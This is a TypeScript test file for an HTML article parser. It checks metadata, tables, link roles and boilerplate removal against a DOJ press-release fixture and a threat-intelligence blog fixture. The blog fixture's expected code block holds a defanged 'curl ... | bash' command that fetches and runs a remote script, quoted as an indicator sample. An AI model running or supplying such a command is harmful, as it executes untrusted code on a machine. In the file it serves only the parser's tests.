import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { expectConsistent } from './fixtures/consistency.ts';
import { parseDocument } from './parse.ts';

const fixture = (name: string) => readFileSync(new URL(`./fixtures/${name}`, import.meta.url));

describe('a DOJ-style press release', async () => {
  const url = 'https://www.justice.gov/opa/pr/arizona-woman-sentenced-laptop-farm';
  const doc = await parseDocument(fixture('doj-press-release.html'), {
    contentType: 'text/html; charset=utf-8',
    source: url,
    finalUrl: url,
  });
  const blocks = expectConsistent(doc);
  const linksBy = (role: string) => doc.links.filter((l) => l.role === role).map((l) => l.href);

  test('meta: og:title, published time, site', () => {
    expect(doc.meta).toMatchObject({
      source: url,
      finalUrl: url,
      site: 'www.justice.gov',
      title: 'Arizona Woman Sentenced for Running Laptop Farm for North Korean IT Workers',
      published: '2025-07-24T18:30:00.000Z',
      contentType: 'text/html; charset=utf-8',
    });
    expect(doc.meta.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  test('keeps the body: headings, paragraphs with names, the table row by row, list items', () => {
    expect(doc.blocks[0]).toMatchObject({ kind: 'heading', level: 1 });
    expect(doc.text).toContain('Christina Marie Chapman, 50, was sentenced to 102 months');
    const table = doc.blocks.find((b) => b.kind === 'table');
    expect(table && doc.text.slice(table.start, table.end)).toBe(
      [
        'Persona | Email | Wallet',
        'Jiho Han | jiho.han@example.com | 0x1f9090aaE28b8a3dCeaDf281B0F12828e676c326',
        'Haoran Xu | haoran.xu@example.org | TXjkVbnAtzU5vcDQnS1VYcWwf2u3jvJK2Q',
      ].join('\n'),
    );
    expect(doc.blocks.filter((b) => b.kind === 'list-item').length).toBeGreaterThanOrEqual(2);
    expect(blocks).toContain('Wire fraud conspiracy');
    expect(blocks).toContain('Accounts named in the filing');
  });

  test.each([
    'tracking-code-should-not-appear', // script
    'This site uses cookies', // cookie banner
    'Most viewed', // aside
    'Accessibility', // footer
    '950 Pennsylvania Avenue', // footer
    'Related Content', // related box
    'Another case about something else', // related box
    'Share:', // share widget
    'Search', // form
    'About', // nav
  ])('drops %j', (dropped) => {
    expect(doc.text).not.toContain(dropped);
  });

  test('link roles', () => {
    expect(linksBy('in-body')).toEqual([
      'http://remote-access.example.net/',
      'https://www.fbi.gov/wanted/cyber/north-korean-it-workers',
    ]);
    expect(linksBy('share')).toHaveLength(4);
    expect(linksBy('share')).toContain('mailto:?subject=Press%20release&body=https%3A%2F%2Fwww.justice.gov');
    expect(linksBy('publisher')).toEqual(['https://www.justice.gov/opa/pr/earlier-indictment']);
    expect(linksBy('reference')).toEqual([
      'https://www.reuters.com/world/us/laptop-farm-2025-07-24/',
      'https://cyberpolicy.example.edu/paper',
    ]);
    expect(linksBy('navigation')).toEqual(
      expect.arrayContaining([
        'https://www.justice.gov/about',
        'https://www.usa.gov/',
        'https://www.justice.gov/opa/pr/another-case',
      ]),
    );
    // Each anchor recorded once.
    expect(doc.links).toHaveLength(
      fixture('doj-press-release.html')
        .toString()
        .match(/<a href=/g)?.length ?? -1,
    );
  });

  test('links in the text carry offsets, dropped ones do not', () => {
    const fbi = doc.links.find((l) => l.text === 'FBI wanted notice');
    expect(fbi?.start).toBeDefined();
    expect(doc.text.slice(fbi?.start, fbi?.end)).toBe('FBI wanted notice');
    expect(doc.links.filter((l) => l.role === 'navigation').every((l) => l.start === undefined)).toBe(true);
  });
});

describe('a vendor blog post', async () => {
  const url = 'https://blog.example-security.com/2025/02/dprk-cluster';
  const doc = await parseDocument(fixture('vendor-blog.html'), {
    contentType: 'text/html',
    source: url,
    finalUrl: url,
  });
  const blocks = expectConsistent(doc);

  test('finds the post without <article>, keeps the IOC table and the code block', () => {
    expect(doc.meta.title).toBe('Tracking a DPRK cluster after the Bybit theft');
    expect(doc.meta.published).toBe('2025-02-27T00:00:00.000Z');
    expect(blocks).toContain(
      [
        'Type | Value | First seen',
        'IPv4 | 203.0.113.45 | 2025-02-21',
        'Domain | update-check[.]net | 2025-02-22',
        'SHA-256 | e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 | 2025-02-22',
      ].join('\n'),
    );
    const code = doc.blocks.find((b) => b.kind === 'code');
    expect(code && doc.text.slice(code.start, code.end)).toBe(
      'curl -s hxxp://update-check[.]net/a.sh | bash\necho done',
    );
    expect(doc.text).toContain('Lazarus Group after the Bybit theft');
  });

  test('drops comments, the sidebar and the share bar', () => {
    expect(doc.text).not.toContain('Great post');
    expect(doc.text).not.toContain('newsletter');
    expect(doc.text).not.toContain('Post');
  });

  test('link roles', () => {
    const role = (href: string) => doc.links.find((l) => l.href === href)?.role;
    expect(role('https://github.com/example/tool')).toBe('in-body');
    expect(role('https://blog.example-security.com/previous-post')).toBe('publisher');
    expect(role('https://x.com/intent/post?text=read')).toBe('share');
    expect(role('https://blog.example-security.com/')).toBe('navigation');
  });
});

test('a page with no text is no_text', async () => {
  await expect(
    parseDocument(Buffer.from('<html><body><nav><a href="/">Home</a></nav></body></html>'), {
      contentType: 'text/html',
      source: 'https://example.org/',
    }),
  ).rejects.toMatchObject({ code: 'no_text' });
});

test('a legacy charset declared in the page is decoded', async () => {
  const bytes = Buffer.concat([
    Buffer.from('<html><head><meta charset="windows-1252"></head><body><p>Caf'),
    Buffer.from([0xe9]),
    Buffer.from(' owner Kim</p></body></html>'),
  ]);
  const doc = await parseDocument(bytes, { contentType: 'text/html', source: 'stdin' });
  expect(doc.text).toBe('Café owner Kim');
});
